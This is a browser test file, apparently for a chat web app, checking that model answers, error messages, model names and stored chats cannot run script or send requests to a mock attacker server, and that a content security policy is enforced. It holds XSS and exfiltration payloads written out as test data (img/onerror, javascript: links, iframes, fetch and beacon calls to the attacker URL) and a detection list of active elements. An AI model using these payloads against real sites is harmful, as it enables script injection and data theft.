"""Answers, names and recordings that try to act in the page: a real browser, and a server that waits for the loot."""

from collections.abc import Iterator
from typing import TYPE_CHECKING

import httpx
import pytest

from tests.attacker import Attacker, attacks_on, run_attacker
from tests.conftest import run_app
from tests.upstream import Step, Upstream

if TYPE_CHECKING:
    from pathlib import Path

    from playwright.sync_api import Browser, Page

    from omni.router import Router

pytestmark = [pytest.mark.browser, pytest.mark.filterwarnings("ignore::ResourceWarning")]
EMAIL, CARD = "jo.private@example.org", "4111 1111 1111 1111"
PROMPT = f"Write to {EMAIL} and charge {CARD}."
FOUND = """(where) => {
  const all = [...document.querySelectorAll(where + ' .md')];
  const acts = 'img,picture,source,iframe,frame,object,embed,form,button:not(.copy_code_button),style,link,meta,base,'
    + 'script,video,audio,svg:not(.copy_code_button svg),math:not(.katex math),input,textarea,select,dialog';
  const found = [];
  for (const box of all) {
    for (const node of box.querySelectorAll(acts)) found.push(node.outerHTML);
    for (const node of box.querySelectorAll('*')) {
      for (const {name, value} of node.attributes) {
        if (name.startsWith('on') || name === 'background') found.push(name);
        if (name === 'style' && !node.closest('.katex') && !/^[\\w-]+-align/.test(value)) found.push(value);
      }
    }
    for (const link of box.querySelectorAll('a[href]')) {
      if (!/^(https?|mailto):/.test(link.getAttribute('href'))) found.push(link.outerHTML);
      if (!/noopener/.test(link.rel) || !/noreferrer/.test(link.rel)) found.push(link.outerHTML);
      if (link.href.startsWith('http')) {
        const shown = link.innerText + (link.nextSibling?.textContent || '');
        if (!shown.includes(new URL(link.href).host)) found.push('no host: ' + link.outerHTML);
      }
    }
  }
  return found;
}"""


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    """The other side's server."""
    with run_attacker() as attacker:
        yield attacker


def _open(page: "Page", url: str) -> None:
    page.goto(f"{url}?__theme=light")
    page.wait_for_selector("#prompt textarea:enabled")


def _says(page: "Page", words: str, where: str = "#chatbot") -> None:
    page.wait_for_function("([s, w]) => document.querySelector(s)?.innerText.includes(w)", arg=[where, words])


def _with_placeholders(page: "Page") -> None:
    page.locator("#privacy button").first.click()
    page.get_by_label("With placeholders").check()


def _check(page: "Page", attacker: Attacker, where: str) -> None:
    """Nothing of the answer acts, and nothing arrived."""
    assert page.evaluate(FOUND, where) == []
    assert page.title() != "taken"
    page.wait_for_timeout(300)
    assert attacker.asked == []


@pytest.mark.parametrize("mode", ["plain", "placeholders"])
@pytest.mark.parametrize("piece_chars", [None, 7])
def test_an_answer_in_the_chat_cannot_act(
    page: "Page", connected_app: str, upstream: Upstream, attacker: Attacker, mode: str, piece_chars: int | None
) -> None:
    """Whatever it is made of, whole or in pieces: no request, no element, no hidden link, no private value in one."""
    answer = attacks_on(attacker)
    if mode == "plain":
        answer = answer.replace("[EMAIL_1]", EMAIL).replace("[CARD_1]", CARD.replace(" ", ""))
    upstream.script("*", Step(text=answer, reasoning=answer, piece_chars=piece_chars))
    _open(page, connected_app)
    if mode == "placeholders":
        _with_placeholders(page)
    page.locator("#prompt textarea").fill(PROMPT)
    page.keyboard.press("Enter")
    _says(page, "Everything was tried.")
    _says(page, "34 tokens")
    _check(page, attacker, "#chatbot")
    shown = page.locator("#chatbot").inner_text()
    assert "picture one" in shown
    assert f"{attacker.url}/a?e=" in shown
    if mode == "placeholders":
        assert EMAIL not in shown.replace(PROMPT, "")
        links = page.eval_on_selector_all("#chatbot a[href^=http]", "links => links.map(link => link.href)")
        assert not [link for link in links if EMAIL in link or "4111" in link]


def test_an_answer_in_a_comparison_cannot_act(
    page: "Page", connected_app: str, upstream: Upstream, attacker: Attacker
) -> None:
    """Both sides show it as words."""
    upstream.script("*", Step(text=attacks_on(attacker)), Step(text=attacks_on(attacker)))
    _open(page, connected_app)
    page.get_by_role("tab", name="Compare").click()
    page.locator("#compare-prompt textarea").fill(PROMPT)
    page.locator("#compare-run").click()
    for side in ("left", "right"):
        _says(page, "Everything was tried.", f"#compare-{side}-answer")
        _check(page, attacker, f"#compare-{side}-answer")


def test_a_kept_chat_cannot_act_when_it_comes_back(
    page: "Page", connected_app: str, upstream: Upstream, attacker: Attacker
) -> None:
    """The chat in the browser's storage is as safe in a new tab, and goes to a model as it was written."""
    answer = attacks_on(attacker)
    upstream.script("*", Step(text=answer), Step(text="The second answer."))
    _open(page, connected_app)
    page.locator("#privacy button").first.click()
    page.locator("#keep-history input").check()
    prompt = "Why does List<String> and <script>x</script> fail with a<b and ![x](http://y/z) here?"
    page.locator("#prompt textarea").fill(prompt)
    page.keyboard.press("Enter")
    _says(page, "34 tokens")
    page.wait_for_function("localStorage.getItem('omni-chat')?.length > 2000")
    second = page.context.new_page()
    _open(second, connected_app)
    _says(second, "Everything was tried.")
    _check(second, attacker, "#chatbot")
    assert prompt in second.locator("#chatbot").inner_text()
    second.locator("#prompt textarea").fill("Go on.")
    second.keyboard.press("Enter")
    _says(second, "The second answer.")
    sent = [message["content"] for message in upstream.requests[1]["messages"]]
    assert sent == [prompt, answer, "Go on."]


def test_an_error_of_a_server_and_its_name_cannot_act(
    page: "Page", connected_app: str, upstream: Upstream, attacker: Attacker
) -> None:
    """What a server says when it fails, and who it says it is, are words."""
    message = f"<img src={attacker.url}/x>\n\n![x]({attacker.url}/y) $$\\href{{{attacker.url}}}{{z}}$$"
    name = f"<img src='{attacker.url}/name'>![x]({attacker.url}/provider)"
    failing = [Step(status=400, message=message)] * 6
    upstream.script("*", *failing, Step(text="Fine.", headers=(("x-inference-provider", name),)))
    _open(page, connected_app)
    page.locator("#prompt textarea").fill("Hello there")
    page.keyboard.press("Enter")
    page.wait_for_selector("#chatbot .receipt")
    page.wait_for_selector("#prompt textarea:enabled")
    _check(page, attacker, "#chatbot")
    page.get_by_role("tab", name="Status").click()
    page.wait_for_selector("#servers section")
    _check(page, attacker, "#servers")


def test_names_of_served_models_cannot_act(
    page: "Page", router: "Router", upstream: Upstream, attacker: Attacker, tmp_path: "Path"
) -> None:
    """A listing's names in the header, the drop-down, the receipt and the status page are words."""
    name = f"evil/<img src={attacker.url}/model onerror=document.title='taken'>![x]({attacker.url}/m)"
    upstream.models = (name,)
    with run_app(router, db_path=tmp_path / "app.duckdb", base_url=upstream.base_url) as url:
        _open(page, url)
        page.locator("#prompt textarea").fill("Hello there")
        page.keyboard.press("Enter")
        page.wait_for_selector("#chatbot .receipt")
        page.wait_for_selector("#prompt textarea:enabled")
        page.get_by_role("tab", name="Status").click()
        page.wait_for_selector("#servers section")
        assert page.locator(".gradio-container img[src*=model], .gradio-container [onerror]").count() == 0
        assert page.title() != "taken"
        page.wait_for_timeout(300)
    assert attacker.asked == []


def test_a_copied_answer_is_what_the_model_wrote(page: "Page", connected_app: str, upstream: Upstream) -> None:
    """The copy button gives no sign of ours."""
    answer = "Use `a<b>`, <b>, ![x](http://h/y), [docs](https://a.org/b) & &#60;.\n\n```cpp\nstd::vector<int> v;\n```"
    upstream.script("*", Step(text=answer))
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    _open(page, connected_app)
    page.locator("#prompt textarea").fill("Show me")
    page.keyboard.press("Enter")
    _says(page, "34 tokens")
    page.locator("#chatbot button[title='Copy message'], #chatbot button[aria-label='Copy message']").last.click()
    page.wait_for_function("navigator.clipboard.readText().then(text => text.includes('vector'))")
    assert answer in page.evaluate("navigator.clipboard.readText()")


def test_ordinary_markdown_is_shown_right(page: "Page", connected_app: str, upstream: Upstream) -> None:
    """Headings, lists, tables, code with its brackets, formulas, links, and words between brackets."""
    answer = (
        "## A heading\n\nstd::vector<int> v; use <user@example.org>, a<b && c>d.\n\n- one **bold**\n  ```html\n"
        '  <div class="x">in a list</div>\n  ```\n\n```cpp\nstd::map<std::string, int> m; // a & b\n```\n\n'
        "Inline `Map<String, List<T>>` and [`docs`](https://docs.example.org/a) and https://bare.example.org/b.\n\n"
        "| left | right |\n|---|---|\n| `a<b>` | 2 |\n\n$$a < b$$\n\nThe end."
    )
    upstream.script("*", Step(text=answer))
    _open(page, connected_app)
    page.locator("#prompt textarea").fill("Show me")
    page.keyboard.press("Enter")
    _says(page, "The end.")
    shown = page.locator("#chatbot").inner_text()
    for words in ("std::vector<int> v; use <user@example.org>, a<b && c>d.", "The end."):
        assert words in shown
    code = page.eval_on_selector_all("#chatbot pre code", "all => all.map(each => each.textContent.trim())")
    assert code == ['<div class="x">in a list</div>', "std::map<std::string, int> m; // a & b"]
    inline = page.eval_on_selector_all("#chatbot :not(pre) > code", "all => all.map(each => each.textContent)")
    assert inline == ["Map<String, List<T>>", "docs", "a<b>"]
    assert page.locator("#chatbot table td").count() == 2
    assert page.locator("#chatbot .katex").count() >= 1
    assert page.locator("#chatbot h2", has_text="A heading").count() == 1
    links = page.eval_on_selector_all("#chatbot .md a[href^=http]", "all => all.map(each => each.href)")
    assert links == ["https://docs.example.org/a", "https://bare.example.org/b"]
    assert "docs (docs.example.org)" in shown.replace("\ufeff", "")


def test_the_policy_holds_where_the_page_does_not(browser: "Browser", connected_app: str, attacker: Attacker) -> None:
    """Elements put into the page by force load, send and run nothing."""
    context = browser.new_context()
    page = context.new_page()
    _open(page, connected_app)
    page.evaluate(
        """(url) => {
          const box = document.createElement('div');
          box.innerHTML = `<img src="${url}/img"><img srcset="${url}/set 1x"><iframe src="${url}/frame"></iframe>
            <iframe srcdoc="<img src='${url}/srcdoc'>"></iframe><object data="${url}/object"></object>
            <video src="${url}/video" poster="${url}/poster"></video><div style="background:url(${url}/css)">x</div>
            <link rel=stylesheet href="${url}/sheet">
            <style>@import "${url}/import"; body{background:url(${url}/bg)}</style>
            <img src="/none" onerror="document.title='taken'"><a id=js href="javascript:document.title='taken'">x</a>
            <form id=away action="${url}/form"><input name=a></form><base href="${url}/base/">`;
          document.body.append(box);
          const script = document.createElement('script');
          script.src = `${url}/script`; document.body.append(script);
          const inline = document.createElement('script');
          inline.textContent = "document.title='taken'"; document.body.append(inline);
          fetch(`${url}/fetch`, {mode: 'no-cors'}).catch(() => 0); navigator.sendBeacon(`${url}/beacon`, 'x');
          try { new EventSource(`${url}/events`); new WebSocket(url.replace('http', 'ws')); } catch {}
          document.querySelector('#js').click(); document.querySelector('#away').submit();
        }""",
        attacker.url,
    )
    page.wait_for_timeout(700)
    title = page.title()
    context.close()
    assert attacker.asked == []
    assert title != "taken"


def test_every_page_carries_the_policy(connected_app: str) -> None:
    """Its own host alone, framed by itself and Hugging Face, no inline script but the page's own, and no guesses."""
    for path in ("/", "/config", "/theme.css", "/nothing", "/gradio_api/info"):
        headers = httpx.get(connected_app + path).headers
        rules = dict(rule.split(" ", 1) for rule in headers["content-security-policy"].split("; "))
        assert rules["frame-ancestors"] == "'self' https://huggingface.co https://*.hf.space"
        assert rules["img-src"] == "'self' data: blob:"
        assert rules["form-action"] == rules["base-uri"] == rules["default-src"] == "'self'"
        assert "'unsafe-inline'" not in rules["script-src"]
        assert headers["x-content-type-options"] == "nosniff"


def test_every_tab_works_under_the_policy(page: "Page", offline_app: str) -> None:
    """Chat with its picture, Compare, Models, Status and a replay with charts: the browser objects to nothing."""
    _open(page, offline_app)
    page.locator("#prompt textarea").fill("Write a haiku")
    page.keyboard.press("Enter")
    page.wait_for_selector("#chosen-model")
    page.get_by_role("tab", name="Picture").click()
    page.locator("#contributions .main-svg").first.wait_for()
    for name in ("Compare", "Models", "Status", "Benchmark"):
        page.get_by_role("tab", name=name).click()
        page.wait_for_selector(f"#tab-{name.lower()}:visible")
    page.locator("#bench-recording input").click()
    page.locator("[role=option]", has_text="Shaberi").first.click()
    page.wait_for_function("document.querySelector('#bench-facts').innerText.includes('Japanese')")
    page.locator("#bench-replay").click()
    page.locator("#bench-gain .main-svg").first.wait_for(timeout=60_000)
